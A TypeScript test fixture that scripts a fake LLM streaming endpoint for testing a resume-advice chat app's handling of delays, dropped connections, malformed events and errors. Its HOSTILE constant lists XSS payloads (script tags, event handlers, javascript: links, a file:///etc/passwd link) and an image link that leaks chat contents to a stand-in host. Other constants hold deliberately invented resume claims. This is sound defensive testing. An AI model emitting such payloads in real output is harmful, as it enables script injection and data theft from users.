/** What the fake endpoint can do, as a table. A test names a behaviour in its question: `Why? {fake slow every=40}`. */

export type Step =
  | { do: "text"; text: string }
  /** The same text, but its bytes leave in packets that end inside characters. */
  | { do: "packets"; text: string; size: number }
  | { do: "wait"; ms: number }
  /** The first event, which has no text. */
  | { do: "head" }
  /** Sent as it is, between the events. */
  | { do: "raw"; text: string }
  /** Waits for `POST /__release?key=…`, so that a test decides when the rest comes. */
  | { do: "gate"; key: string }
  /** Nothing more is sent; the connection stays open until the caller leaves. */
  | { do: "hang" }
  /** The connection is destroyed. */
  | { do: "cut" };

export type Reply =
  | {
      kind: "error";
      status: number;
      headers: Record<string, string>;
      message: string;
      code: string | null;
    }
  | { kind: "answer"; steps: Step[]; usage: "whole" | "none" | "broken"; finish: string };

export type Params = Record<string, string>;

/** What is known of a call beside its question. */
export interface CallFacts {
  /** Calls before it whose question ended with the same directive. */
  earlier: number;
  /** The prompt by our count, and the most that the answer may have. */
  tokens: number;
}

export const ANSWER = [
  "Lead with your current role [W1]: it is closest to what this posting asks for [J1].",
  "",
  "- Put its strongest result into the first bullet [W1].",
  "- Use the posting's own word where your row means the same.",
  "",
  "Which part shall we work on next?",
].join("\n");

export const INVENTED_NUMBER = "4,812 %";
export const INVENTED = `You cut delivery costs by ${INVENTED_NUMBER} in your current role [W1]. Put that first.`;
/** Said of the user in the behaviour `noted`; no row has it. */
export const NOTED = "supported 412 users on the booking page";
/** Wording for the resume, one line of it invented. */
export const BULLETS = [
  "Two bullets that you can use:",
  "",
  "- Led 4,812 engineers through the split of the booking monolith [W1]",
  "- Introduced contract tests that caught 31 breaking changes before release [W1]",
].join("\n");
/** What a model would write that was turned against its reader. The two links with a host may be links. */
export const HOSTILE = [
  "<script>window.ran = 'a script'</script>",
  "<img src=x onerror=\"window.ran = 'a handler'\">",
  '<a href="https://elsewhere.example/raw">raw</a> <svg onload="window.ran = \'svg\'"></svg>',
  "",
  "![chat](https://elsewhere.example/leak.png?chat=all) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "",
  "[one](javascript:window.ran='link') [two](JaVaScRiPt:window.ran='link') [three](\tjavascript:x)",
  "[four](data:text/html,<script>1</script>) [five](vbscript:x) [six](//elsewhere.example/other)",
  "[seven](file:///etc/passwd) <javascript:window.ran='link'> [eight](blob:https://elsewhere.example/x)",
  "",
  "[our help page](https://elsewhere.example/trap) and https://elsewhere.example/bare",
  "",
  "[ref]: javascript:window.ran='link'",
  "[nine][ref]",
  "",
  "The end of it.",
].join("\n");
export const MULTIBYTE = "Zürich, naïve façade, 履歴書, кириллица, 👩‍💻 and 🏳️‍🌈 arrive whole.";

/** What a second look finds in the usual answer. */
export const DOUBTED = "closest to what this posting asks for";
const OPINION = JSON.stringify([
  { text: DOUBTED, reason: "The posting asks for something else." },
  { text: "words that the answer never used", reason: "Invented." },
]);

/** What a model makes of a file's text: one employer and one line of it are invented, and so is a name. */
export const INVENTED_EMPLOYER = "Umbrella Corporation";
const IMPORTED = JSON.stringify({
  basics: { label: "Tide engineer", name: "Somebody Else" },
  work: [
    {
      name: "Acme GmbH",
      position: "Senior Engineer",
      startDate: "2019",
      endDate: "2021",
      highlights: ["Built the tide tables", "Saved 4,812 ships"],
    },
    { name: INVENTED_EMPLOYER, position: "Chief Executive", startDate: "2005" },
  ],
  skills: [{ name: "Databases", keywords: ["PostgreSQL", "Redis", "Kubernetes"] }],
});

/** Told to the caller by the failing behaviours; it must never reach a client of the application. */
export const PROVIDER_SECRET = "upstream-detail-7f3a";

/** Text in pieces like a model's tokens: a word with the white space before it. */
export function pieces(text: string): string[] {
  return text.match(/\s*\S+|\s+$/g) ?? [];
}

const texts = (text: string): Step[] => pieces(text).map((piece) => ({ do: "text", text: piece }));
type Answer = Extract<Reply, { kind: "answer" }>;
const answer = (steps: Step[], more: Partial<Answer> = {}): Reply => ({
  kind: "answer",
  steps,
  usage: "whole",
  finish: "stop",
  ...more,
});
const failure = (
  status: number,
  more: { after?: string; code?: string; message?: string },
): Reply => ({
  kind: "error",
  status,
  headers: more.after === undefined ? {} : { "retry-after": more.after },
  message: more.message ?? `The provider failed: ${PROVIDER_SECRET}`,
  code: more.code ?? null,
});
const half = (text: string): [Step[], Step[]] => {
  const all = texts(text);
  return [all.slice(0, all.length / 2), all.slice(all.length / 2)];
};

/** What of the usual answer has come when it waits at a gate, stalls or is cut. */
export const FIRST_HALF = half(ANSWER)[0]
  .map((step) => ("text" in step ? step.text : ""))
  .join("");

/** What lies between two events and is none, by the rules of server-sent events. */
const NOISE: Step = { do: "raw", text: ": still here\n\nid: 7\nretry: 10\n\n\r\n\n" };
/** An event that was cut off. */
const GARBAGE: Step = {
  do: "raw",
  text: `data: {"id":"chatcmpl-${PROVIDER_SECRET}","choices":[{\n\n`,
};

/** Sentences, and no claim in them. */
export const longText = (chars: number): string =>
  "Say it in the words of the posting. ".repeat(Math.ceil(chars / 36)).slice(0, chars);

const BEHAVIOURS: Record<string, (params: Params, call: CallFacts) => Reply> = {
  answer: () => answer(texts(ANSWER)),
  invented: () => answer(texts(INVENTED)),
  noted: ({ marker = "W1" }) => answer(texts(`You ${NOTED} [${marker}].`)),
  slow: ({ every = "40" }) =>
    answer(texts(ANSWER).flatMap((step): Step[] => [{ do: "wait", ms: Number(every) }, step])),
  gate: ({ key = "" }) => {
    const [first, rest] = half(ANSWER);
    return answer([...first, { do: "gate", key }, ...rest]);
  },
  watched: ({ key = "" }) => {
    const all = texts(INVENTED);
    return answer([...all.slice(0, -1), { do: "gate", key }, ...all.slice(-1)]);
  },
  hostile: () => answer(texts(HOSTILE)),
  bullets: () => answer(texts(BULLETS)),
  error: ({ status = "500", ...more }) => failure(Number(status), more),
  once: ({ status = "500", ...more }, { earlier }) =>
    earlier === 0 ? failure(Number(status), more) : answer(texts(ANSWER)),
  window: ({ tokens: most = "4096" }, { tokens }) =>
    tokens <= Number(most)
      ? answer(texts(ANSWER))
      : failure(400, {
          code: "context_length_exceeded",
          message: `This model's maximum context length is ${most} tokens. However, you requested ${tokens} tokens.`,
        }),
  hang: () => answer([{ do: "hang" }]),
  stall: () => answer([...half(ANSWER)[0], { do: "hang" }]),
  // What has come is lost with a connection that goes before it was read: a second, or as long as the gate is closed.
  cut: ({ until }) =>
    answer([
      ...half(ANSWER)[0],
      until ? { do: "gate", key: until } : { do: "wait", ms: 1_000 },
      { do: "cut" },
    ]),
  pending: ({ key = "" }) => answer([{ do: "gate", key }, ...texts(ANSWER)]),
  reset: () => answer([{ do: "cut" }]),
  late: () => answer([{ do: "head" }, { do: "cut" }]),
  garbled: () => answer([...half(ANSWER)[0], GARBAGE, ...half(ANSWER)[1]]),
  garbage: () => answer([GARBAGE]),
  noisy: () => answer(texts(ANSWER).flatMap((step) => [NOISE, step])),
  length: () => answer(half(ANSWER)[0], { finish: "length" }),
  filter: () => answer(half(ANSWER)[0], { finish: "content_filter" }),
  filtered: () => answer([], { finish: "content_filter" }),
  nousage: () => answer(texts(ANSWER), { usage: "none" }),
  badusage: () => answer(texts(ANSWER), { usage: "broken" }),
  letters: ({ count = "10000" }) =>
    answer([...longText(Number(count))].map((text) => ({ do: "text", text }))),
  long: ({ chars = "200000" }) => answer(texts(longText(Number(chars)))),
  empty: () => answer([]),
  multibyte: ({ size = "5" }) =>
    answer([{ do: "packets", text: MULTIBYTE, size: Math.max(1, Number(size)) }]),
};

const DIRECTIVE = /\{fake ([a-z]+)((?: [a-z]+=[\w.-]+)*)\}/g;

/** The last directive of a question, which says what it is answered with. */
export const directiveOf = (question: string): RegExpExecArray | undefined =>
  [...question.matchAll(DIRECTIVE)].at(-1);

/**
 * The reply to a question: what its last directive names, else what the model's name says (`fake-slow`), else a normal
 * answer. A name that is not in the table is an error of the test and answered with 400.
 */
export function chooseReply(question: string, model: string, call: CallFacts): Reply {
  // What is checked holds no directive: the answer itself is the question.
  if (question.includes("<<ANSWER ")) return answer(texts(OPINION));
  const directive = directiveOf(question);
  if (!directive && question.includes("<<FILE ")) return answer(texts(IMPORTED));
  const name = directive?.[1] ?? /^fake-([a-z]+)$/.exec(model)?.[1] ?? "answer";
  const params: Params = {};
  for (const pair of (directive?.[2] ?? "").split(" ")) {
    const [key, value] = pair.split("=");
    if (key && value) params[key] = value;
  }
  const behaviour = BEHAVIOURS[name];
  return behaviour?.(params, call) ?? failure(400, { message: `unknown behaviour "${name}"` });
}
